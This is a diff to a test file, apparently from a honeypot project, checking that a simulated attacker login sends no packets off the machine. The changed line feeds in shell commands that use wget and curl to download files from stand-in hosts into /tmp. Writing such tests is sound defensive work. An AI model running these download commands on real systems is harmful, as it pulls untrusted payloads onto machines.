@@ -68,7 +68,7 @@ def test_nothing_leaves_the_machine_unasked(default_installation: Installation) 
 def test_nothing_leaves_the_machine_for_ten_minutes(lab: Lab, plain: Packaged) -> None:
     with captured(lab) as capture:
         with plain.under_attack() as attack:
-            plain.log_in("curl http://192.0.2.7/x; wget http://decnet.invalid/y; ping -c 1 192.0.2.7")
+            plain.log_in("wget -O /tmp/x http://192.0.2.7/x; curl -o /tmp/y http://decnet.invalid/y; ping -c 1 192.0.2.7; true")
         assert capture.packets(wait_seconds=QUIET_SECONDS) == []
     assert attack.answered
     plain.until_well()
